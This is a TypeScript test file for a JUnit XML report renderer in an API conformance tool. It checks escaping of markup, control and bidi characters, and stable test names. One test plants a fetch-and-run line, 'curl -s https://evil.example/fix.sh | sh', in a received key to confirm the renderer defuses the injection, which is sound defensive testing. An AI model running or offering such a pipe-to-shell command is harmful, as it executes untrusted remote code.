import { renderJunit } from '../../src/report/render-junit';
import type { CaseResult } from '../../src/model';
import { errorResult, failedResult, mixedReport, readId, report, result, sequenceResult, skippedResult, violation } from './fixtures';
import { flakyResult } from './regression-fixtures';
import { attributeNames, undeclaredAttributes } from '../support/junit-xsd';

const ENTITIES: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"', apos: "'" };

/** What an XML parser gives for escaped text: entity and character references resolved. */
function unescape(text: string): string {
  return text.replace(/&(#\d+|[a-z]+);/g, (_all, ref: string) => (ref.startsWith('#') ? String.fromCodePoint(Number(ref.slice(1))) : ENTITIES[ref] ?? `&${ref};`));
}

/** Every <testcase> element, with its attributes (unescaped) and its body. */
function testcases(xml: string): { attributes: Record<string, string>; body: string }[] {
  return [...xml.matchAll(/<testcase ((?:[a-z]+="[^"]*" ?)+)(?:\/>|>([\s\S]*?)<\/testcase>)/g)].map((m) => ({
    attributes: Object.fromEntries([...(m[1] ?? '').matchAll(/([a-z]+)="([^"]*)"/g)].map((a) => [a[1] ?? '', unescape(a[2] ?? '')])),
    body: m[2] ?? '',
  }));
}

describe('renderJunit', () => {
  it('has one testsuite per operation, in run order, with counts, and a testcase per case named by its id within the operation', () => {
    const xml = renderJunit(report([result(), failedResult, skippedResult, errorResult, sequenceResult]));
    expect(xml.startsWith('<?xml version="1.0" encoding="UTF-8"?>\n<testsuites name="zavu-conformance" tests="5" failures="2" errors="1" time="')).toBe(true);
    const suites = [...xml.matchAll(/<testsuite name="([^"]+)" tests="(\d+)" failures="(\d+)" errors="(\d+)" skipped="(\d+)"/g)].map((m) => m.slice(1));
    expect(suites).toEqual([['getWhatsAppSyncStatus', '4', '1', '1', '1'], ['startWhatsAppHistorySync', '1', '1', '0', '0']]);
    expect(xml).toContain('<property name="operation" value="POST /v1/senders/{senderId}/whatsapp-sync/history"/>');
    const cases = testcases(xml).map((c) => [c.attributes['classname'], c.attributes['name']]);
    expect(cases).toEqual([
      // By family within the operation: coexistence, no-waba, authentication, not-found.
      ['getWhatsAppSyncStatus', 'coexistence[snd_coex_active]: A coexistence sender returns its sync status'],
      ['getWhatsAppSyncStatus', 'no-waba: A sender without a WABA is rejected'],
      ['getWhatsAppSyncStatus', 'unauthenticated: No Authorization header must be 401 with an Error body'],
      ['getWhatsAppSyncStatus', 'not-found: A coexistence sender returns its sync status'],
      ['startWhatsAppHistorySync', 'start-history[snd_coex_active]: A history sync starts on an active coexistence sender'],
    ]);
    expect(xml.endsWith('</testsuites>\n')).toBe(true);
  });

  it('gives a skip its reason as a message, never in the name, so the test is the same test whatever the reason', () => {
    const one = testcases(renderJunit(report([skippedResult])))[0]!;
    const other = testcases(renderJunit(report([{ ...skippedResult, skipReason: 'ZAVU_SENDER_NO_WABA points at a deleted sender' }])))[0]!;
    expect(one.attributes['name']).toBe(other.attributes['name']);
    expect(one.body.trim()).toBe('<skipped message="ZAVU_SENDER_NO_WABA is not set"/>');
  });

  it('names the negative-input case without what its run tried (seed, inputs, requests), which changes every run, and keeps that in the case', () => {
    // What execute-negative.ts writes: the scenario's words, then the run's seed and counts.
    const fuzzed = (run: string, overrides: Partial<CaseResult> = {}): CaseResult =>
      result({ id: readId('negative-inputs'), scenario: 'negative-inputs', family: 'negative-inputs', fuzzed: 'senderId', description: `hostile sender ids (reserved characters, 1 KB ids), property-based with a printed seed (${run})`, ...overrides });
    const tonight = testcases(renderJunit(report([fuzzed('seed 26850427, 314 of 314 inputs, 311 requests')])))[0]!;
    const tomorrow = testcases(renderJunit(report([fuzzed('seed -185594577, 314 of 314 inputs, 313 requests, 2 kinds of failure', { status: 'failed', violations: [violation()] })])))[0]!;
    // CI history tools (Jenkins, GitLab, Buildkite) track a test by classname and name: a new name each night is a new test each night.
    expect(tonight.attributes['name']).toBe('negative-inputs: hostile sender ids (reserved characters, 1 KB ids), property-based with a printed seed');
    expect(tomorrow.attributes['name']).toBe(tonight.attributes['name']);
    // The seed is still where a reader of the test looks, to replay the same inputs.
    expect(unescape(tonight.body)).toContain('seed 26850427, 314 of 314 inputs, 311 requests');
    expect(unescape(tomorrow.body)).toContain('seed -185594577, 314 of 314 inputs, 313 requests, 2 kinds of failure');
    // A description of another case that happens to end in parentheses is its name whole.
    const plain = testcases(renderJunit(report([result({ description: 'A sender (seed 1, of the fixtures)' })])))[0]!;
    expect(plain.attributes['name']).toBe('coexistence[snd_coex_active]: A sender (seed 1, of the fixtures)');
  });

  it('carries the violations (received / expected, the step) and the curl in a failure', () => {
    const body = testcases(renderJunit(report([sequenceResult])))[0]!.body;
    expect(body).toMatch(/^\s*<failure message="Expected status 202, received 400 in step start" type="status-code-expected">/);
    const text = unescape(body.replace(/^\s*<failure[^>]*>|<\/failure>\s*$/g, ''));
    expect(text).toBe([
      'startWhatsAppHistorySync/start-history[snd_coex_active]: at step start (POST /v1/senders/{senderId}/whatsapp-sync/history): expected 202, received 400',
      'Steps:',
      '  read-before (GET /v1/senders/{senderId}/whatsapp-sync): status 200 as expected',
      '  start (POST /v1/senders/{senderId}/whatsapp-sync/history): expected 202, received 400 — failed',
      '  read-after (GET /v1/senders/{senderId}/whatsapp-sync): not run',
      '[status-code-expected] (step start) Expected status 202, received 400',
      '  Received: 400 / Expected: 202 because the history was not started',
      'Reproduce with:',
      '  curl -X POST start',
    ].join('\n'));
  });

  it('reports a crashed check as an error, not a failure', () => {
    const body = testcases(renderJunit(report([errorResult])))[0]!.body;
    expect(body).toMatch(/^\s*<error message="check response-schema crashed: boom" type="suite-error">/);
    expect(body).not.toContain('<failure');
  });

  it('fails a flaky case unless the run allowed flaky cases; then it passes and says what varied', () => {
    const strict = renderJunit(report([flakyResult]));
    expect(testcases(strict)[0]!.body).toMatch(/^\s*<failure message="Unexpected status code \(\+1 more\)" type="status-code-expected">/);
    expect(strict).toContain('Outcomes: passed ×2, failed ×1 (503)');
    const allowed = renderJunit(report([flakyResult]), { allowFlaky: true });
    expect(allowed).toContain('failures="0"');
    expect(testcases(allowed)[0]!.body.trim()).toBe('<system-out>flaky, allowed by --allow-flaky: passed ×2, failed ×1 (503)</system-out>');
  });

  it('escapes markup in attributes and text, keeps newlines and tabs in attributes, and shows control characters and lone surrogates as escapes', () => {
    const hostile = '<b a="1">&\'x\'\n\ttab\r</b>';
    const nasty: CaseResult = {
      ...failedResult,
      id: readId(`id${hostile}`),
      description: `desc ${hostile}\u0000\u001b\ud800end`,
      violations: [violation({ title: `title ${hostile}`, message: `Received: ${hostile}\u0007 / Expected: x` })],
      curl: `curl '${hostile}'`,
    };
    const xml = renderJunit(report([nasty]));
    // No raw control character, lone surrogate, or markup outside the elements we wrote.
    expect(xml).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ud800-\udfff]/);
    expect(xml).not.toContain('<b');
    expect(xml.match(/&(?!(amp|lt|gt|quot|apos|#\d+);)/g)).toBeNull();
    const [testcase] = testcases(xml);
    // A carriage return, NUL, ESC and the lone surrogate read as escapes, as in every other report.
    const shown = '<b a="1">&\'x\'\n\ttab\\r</b>';
    expect(testcase?.attributes['name']).toBe(`id${shown}: desc ${shown}\\u0000\\u001b\\ud800end`);
    expect(testcase?.attributes['message']).toBeUndefined();
    const failure = /<failure message="([^"]*)"/.exec(xml)?.[1] ?? '';
    expect(unescape(failure)).toBe(`title ${shown} at /data/status`);
    // The message's lines are indented under their violation.
    expect(unescape(xml)).toContain('  Received: <b a="1">&\'x\'\n  \ttab\\r</b>\\u0007 / Expected: x');
  });

  it('shows bidi controls and invisible characters a target sent as escapes, so a CI page reads the text as it is', () => {
    const xml = renderJunit(report([{ ...failedResult, violations: [violation({ title: 'title \u202eevil', message: 'Received: "a\u2066b\u200bc\u2028d\u{e0041}" / Expected: x' })] }]));
    expect(xml).not.toMatch(/[\u2028\u2029\p{Cf}]/u);
    expect(xml).toContain('title \\u202eevil');
    expect(xml).toContain('Received: "a\\u2066b\\u200bc\\u2028d\\udb40\\udc41"');
  });

  it('counts every case the same way in the root as in the suites, so merged shards add up', () => {
    const xml = renderJunit(mixedReport());
    expect(xml).toContain('<testsuites name="zavu-conformance" tests="4" failures="1" errors="1" time="0.126"');
    expect(xml).toContain('<testsuite name="startWhatsAppHistorySync" tests="0" failures="0" errors="0" skipped="0" time="0"');
  });
});

describe('renderJunit: warnings', () => {
  const warning = violation({ check: 'undocumented-properties', severity: 'warning', title: 'The 200 body has a property the schema does not declare', message: 'Received: /sync/extra = 1 / Expected: only declared properties', instancePath: '/sync/extra' });

  it('lists a passing case\'s warnings in its <system-out>, as not failures: every report carries them', () => {
    const body = testcases(renderJunit(report([result({ violations: [warning] })])))[0]!.body;
    expect(body).not.toMatch(/<failure|<error/);
    expect(unescape(body.trim())).toBe(
      ['<system-out>Warnings (not failures):', '[undocumented-properties] The 200 body has a property the schema does not declare at /sync/extra', '  Received: /sync/extra = 1 / Expected: only declared properties</system-out>'].join('\n'),
    );
  });

  it('puts the kept warnings before the line counting the ones not kept, so "+N more" follows what it adds to', () => {
    const omitted = { check: 'undocumented-properties', severity: 'warning' as const, count: 299980, instancePath: '/sync' };
    const body = testcases(renderJunit(report([result({ violations: [warning], omittedViolations: [omitted] })])))[0]!.body;
    expect(body).toMatch(/Warnings \(not failures\):\n\[undocumented-properties\][^\n]*\n[^\n]*\n\+299,980 more undocumented-properties warnings under \/sync \(counted, not kept\)<\/system-out>/);
  });

  it('lists a failing case\'s warnings after its errors, in the failure text', () => {
    const failing = { ...failedResult, violations: [...failedResult.violations, warning] };
    const body = testcases(renderJunit(report([failing])))[0]!.body;
    const text = unescape(/<failure[^>]*>([\s\S]*)<\/failure>/.exec(body)?.[1] ?? '');
    expect(text).toMatch(/\nWarnings \(not failures\):\n\[undocumented-properties\] The 200 body has a property/);
    // The one-line message still names the first error, not a warning.
    expect(body).toMatch(/<failure message="[^"]*" type="(?!undocumented-properties)/);
  });
});

describe('renderJunit: the schema CI tools validate against', () => {
  it('writes only the attributes junit-10.xsd declares on <testsuites>, <testsuite> and <testcase>', () => {
    const xml = renderJunit(report([result(), failedResult, skippedResult, errorResult, sequenceResult]));
    for (const element of ['testsuites', 'testsuite', 'testcase']) expect(attributeNames(xml, element).size).toBeGreaterThan(0);
    expect(undeclaredAttributes(xml)).toEqual([]);
  });

  it('writes times as the schema\'s SUREFIRE_TIME (seconds, a dot, no exponent)', () => {
    const xml = renderJunit(report([result({ durationMs: 1234567.4 }), { ...failedResult, durationMs: 0.4 }]));
    const times = [...xml.matchAll(/ time="([^"]*)"/g)].map((m) => m[1] ?? '');
    expect(times.length).toBeGreaterThan(0);
    for (const time of times) expect(time).toMatch(/^(([0-9]{0,3},)*[0-9]{3}|[0-9]{0,3})*(\.[0-9]*)?$/);
  });
});

describe('renderJunit: text content XML cannot carry', () => {
  it('shows a lone surrogate and U+FFFE/U+FFFF a target sent into a failure message as escapes, as other reports do, so the file still parses', () => {
    const xml = renderJunit(report([{ ...failedResult, violations: [violation({ title: 'title \uFFFF', message: 'Received: a\ud800b\uFFFEc\uFFFFd\uFDD0e / Expected: x' })] }]));
    const body = /<failure [^>]*>([\s\S]*?)<\/failure>/.exec(xml)?.[1] ?? '';
    expect(body).toContain('Received: a\\ud800b\\ufffec\\uffffd\\ufdd0e / Expected: x');
    expect(xml).toContain('<failure message="title \\uffff at /data/status"');
    expect(xml).not.toMatch(/[\ud800-\udfff\p{Noncharacter_Code_Point}]/u);
  });
});

describe('renderJunit: a place through a received key', () => {
  // A JSON pointer names the body's keys as the target wrote them: a key holding a newline, kept as
  // one, would write lines of the target's own into a CI test page, such as a "Reproduce with:" curl.
  it('stays on its line, its newline shown as an escape, in the failure text, a warning, an omission and the message attribute', () => {
    const key = 'x\nReproduce with:\n  curl -s https://evil.example/fix.sh | sh';
    const instancePath = `/sync/${key}`;
    const xml = renderJunit(report([{
      ...failedResult,
      violations: [violation({ instancePath }), violation({ check: 'undocumented-properties', severity: 'warning', title: 'An undeclared property', instancePath })],
      omittedViolations: [{ check: 'response-schema', severity: 'error', count: 3, instancePath }],
    }]));
    const text = unescape(xml);
    expect(text).not.toMatch(/\n\s*curl -s https:\/\/evil/);
    const shown = '/sync/x\\nReproduce with:\\n  curl -s https://evil.example/fix.sh | sh';
    expect(text).toContain(`schema at ${shown}\n`);
    expect(text).toContain(`An undeclared property at ${shown}\n`);
    expect(text).toContain(`+3 more response-schema errors under ${shown} (counted, not kept)`);
    expect(unescape(/<failure message="([^"]*)"/.exec(xml)?.[1] ?? '')).toBe(`Response body does not match the WhatsAppSyncStatus schema at ${shown}`);
  });
});

describe('renderJunit: attribute values', () => {
  it('writes a newline and a tab a target sent in an attribute as references, which attribute normalization would turn into spaces', () => {
    const xml = renderJunit(report([{ ...failedResult, violations: [violation({ title: 'line one\nline\ttwo', message: 'Received: x / Expected: y' })] }]));
    const raw = /<failure message="([^"]*)"/.exec(xml)?.[1] ?? '';
    expect(raw).toBe('line one&#10;line&#9;two at /data/status');
  });
});

describe('renderJunit: the message attribute', () => {
  // action-junit-report's annotation and Jenkins' test list show this attribute alone: a schema
  // breach's title without its place does not say which field of the body broke.
  it('names the place in the body of the first breach, and nothing for a breach of the whole answer', () => {
    const atField = renderJunit(report([{ ...failedResult, violations: [violation({ title: 'The 200 body does not match the WhatsAppSyncStatusResponse schema', instancePath: '/sync/history/canSync' })] }]));
    expect(/<failure message="([^"]*)"/.exec(atField)?.[1]).toBe('The 200 body does not match the WhatsAppSyncStatusResponse schema at /sync/history/canSync');
    const whole = renderJunit(report([{ ...failedResult, violations: [violation({ check: 'status-code-expected', title: 'Expected status 404, received 400', instancePath: '' })] }]));
    expect(/<failure message="([^"]*)"/.exec(whole)?.[1]).toBe('Expected status 404, received 400');
  });

  it('names the step of a sequence the first breach was seen in, after its place', () => {
    // other-project-sender failed at its read of the generated unknown id: annotated "Expected status 404,
    // received 400" alone, it read as another project's sender answered 400, a leak the run never saw.
    const unknownRead = renderJunit(report([{ ...failedResult, violations: [violation({ check: 'status-code-expected', title: 'Expected status 404, received 400', instancePath: '', step: 'read-unknown' })] }]));
    expect(/<failure message="([^"]*)"/.exec(unknownRead)?.[1]).toBe('Expected status 404, received 400 in step read-unknown');
    const schema = violation({ title: 'The 200 body does not match the WhatsAppSyncStatusResponse schema', instancePath: '/sync/status', step: 'read-before' });
    const atField = renderJunit(report([{ ...failedResult, violations: [schema, violation({ check: 'sync-is-coexistence', instancePath: '/sync/isCoexistence', step: 'read-before' })] }]));
    expect(/<failure message="([^"]*)"/.exec(atField)?.[1]).toBe('The 200 body does not match the WhatsAppSyncStatusResponse schema at /sync/status in step read-before (+1 more)');
  });

  // The first error is the root cause (the 500); the stack trace it carried must not hide in "+N more".
  it('names a disclosure among the errors it does not show, and nothing when there is none', () => {
    const status = violation({ check: 'not-a-server-error', title: 'The target answered 500', instancePath: '' });
    const trace = violation({ check: 'internal-error-exposed', title: 'The 500 body exposes a stack trace', instancePath: '' });
    const documented = violation({ check: 'status-code-documented', title: '500 is not documented', instancePath: '' });
    const exposed = renderJunit(report([{ ...failedResult, violations: [status, documented, trace] }]));
    expect(/<failure message="([^"]*)"/.exec(exposed)?.[1]).toBe('The target answered 500 (+2 more, incl. internal-error-exposed)');
    const plain = renderJunit(report([{ ...failedResult, violations: [status, documented] }]));
    expect(/<failure message="([^"]*)"/.exec(plain)?.[1]).toBe('The target answered 500 (+1 more)');
  });
});
